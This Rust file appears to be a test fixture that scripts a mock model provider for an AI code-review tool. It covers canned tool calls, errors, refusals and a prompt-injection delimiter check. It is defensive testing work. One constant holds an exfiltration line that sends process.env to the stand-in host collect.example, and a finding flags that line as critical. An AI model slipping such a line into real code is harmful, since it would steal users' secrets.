//! What the provider is going to say.

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

/// What is said, whatever is asked: one step for each request that is accepted. After the last step, the last one again.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub(crate) struct Script {
    /// The key that requests must show.
    pub(crate) key: String,
    /// The model that requests must name.
    pub(crate) model: String,
    /// Tokens read and written, as each answer says.
    pub(crate) usage: (u64, u64),
    /// OpenAI: whether the model thinks, and gives its thoughts in encrypted form to who asks for it.
    pub(crate) thinks: bool,
    /// Chat completions: whether the model knows the limit of what it writes only by its newer name.
    pub(crate) completion_tokens: bool,
    /// The steps.
    pub(crate) steps: Vec<Step>,
    /// Steps of their own for OpenAI's API, where two agents speak to one provider; none when both play the same ones.
    #[serde(default)]
    pub(crate) openai_steps: Vec<Step>,
}

/// One answer. `{{word}}` in texts and arguments is replaced by the random word of the system prompt's delimiter: a model
/// that was tricked into repeating it.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub(crate) enum Step {
    /// Text, then calls of tools: name and arguments.
    Say { text: Option<String>, calls: Vec<(String, Value)> },
    /// One call whose arguments are this text, which need not be JSON.
    CallWith { name: String, arguments: String },
    /// No part at all.
    Silence,
    /// The model, or the provider, refuses.
    Refuse,
    /// The answer is cut at its limit of tokens, in the middle of a call's arguments.
    RunOut,
    /// An unknown reason for the end.
    StopFor(String),
    /// No answer for so many milliseconds.
    Wait(u64),
    /// An error in place of an answer.
    Fail { status: u16, headers: Vec<(String, String)>, kind: String, message: String },
    /// An error after the answer has begun; only in events.
    FailLate { kind: String, message: String },
    /// The connection breaks in the middle of the answer.
    Die,
    /// Bytes that are no answer.
    Garbage(String),
}

impl Step {
    /// Calls of tools and nothing else.
    pub(crate) fn calls<const N: usize>(calls: [(&str, Value); N]) -> Self {
        let calls = calls.into_iter().map(|(name, arguments)| (name.to_owned(), arguments)).collect();
        Self::Say { text: None, calls }
    }

    /// Text and nothing else.
    pub(crate) fn text(text: &str) -> Self {
        Self::Say { text: Some(text.to_owned()), calls: Vec::new() }
    }

    /// The end of a review.
    pub(crate) fn finish(summary: &str, findings: Value) -> Self {
        Self::calls([("finish", json!({"summary": summary, "findings": findings}))])
    }

    /// An error in place of an answer.
    pub(crate) fn fail(status: u16, kind: &str, message: &str) -> Self {
        Self::Fail { status, headers: Vec::new(), kind: kind.to_owned(), message: message.to_owned() }
    }

    /// The same, with a header.
    pub(crate) fn header(mut self, name: &str, value: &str) -> Self {
        if let Self::Fail { headers, .. } = &mut self {
            headers.push((name.to_owned(), value.to_owned()));
        }
        self
    }
}

impl Script {
    /// A script with the usual key `sk-test-key` and model `test-model`.
    pub(crate) fn new(steps: impl IntoIterator<Item = Step>) -> Self {
        Self {
            key: "sk-test-key".to_owned(),
            model: "test-model".to_owned(),
            usage: (1_000, 50),
            thinks: true,
            completion_tokens: false,
            steps: steps.into_iter().collect(),
            openai_steps: Vec::new(),
        }
    }

    /// A whole review that finds one thing: line 3 of `src/index.js` must be [`Script::BAD_LINE`], and is best changed in the
    /// diff under review.
    pub(crate) fn finds_one() -> Self {
        Self::new([
            Step::Say {
                text: Some("I look at what changed.".to_owned()),
                calls: vec![("list_files".to_owned(), json!({}))],
            },
            Step::calls([
                ("grep", json!({"pattern": "process\\.env", "glob": "*.js", "context": 1})),
                ("read_diff", json!({"path": "src/index.js"})),
            ]),
            Step::calls([("read_file", json!({"path": "src/index.js", "start_line": 1, "end_line": 5}))]),
            Step::finish("A weather server. One line sends the environment away.", json!([Self::finding()])),
        ])
    }

    /// What [`Script::finds_one`] is about.
    pub(crate) const BAD_LINE: &str = "fetch('https://collect.example/' + JSON.stringify(process.env));";

    /// What it finds.
    pub(crate) fn finding() -> Value {
        json!({
            "title": "The environment is sent to a foreign host", "risk": "critical", "category": "data-exfiltration",
            "path": "src/index.js", "start_line": 3, "end_line": 3, "quote": Self::BAD_LINE,
            "impact": "All secrets in the environment are stolen when the server starts.",
            "recommendation": "Do not accept this commit.", "confidence": "high"
        })
    }
}
